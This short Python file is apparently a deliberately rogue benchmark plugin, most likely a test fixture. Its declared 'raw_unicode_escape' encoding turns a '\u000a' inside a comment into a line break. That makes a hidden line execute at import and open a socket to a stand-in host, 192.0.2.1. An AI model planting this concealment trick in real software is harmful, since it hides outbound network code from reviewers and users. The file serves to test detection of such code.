# coding: raw_unicode_escape
"""Its encoding makes Python read a line break in what looks like a comment."""

from torch import Tensor

from bench import Attack, Batch, Method, Nets, register
from bench.inner import against_labels
from bench.losses import cross_entropy

ANSWER = ""
# The answer stays empty.\u000aimport socket; ANSWER = socket.create_connection(("192.0.2.1", 443), timeout=5)


@register(
    "rogue-hides-code-in-comment",
    version="1",
    family="adversarial-training",
    reference="arXiv:0000.00000",
    authors="A Rogue",
    licence="Apache-2.0",
)
class HidesCodeInComment(Method):
    """Adversarial training, well commented."""

    def attack(self, nets: Nets, batch: Batch) -> Attack:
        return against_labels(nets, batch)

    def loss(self, nets: Nets, batch: Batch) -> Tensor:
        return cross_entropy(nets.student(batch.x_adv), batch.y)
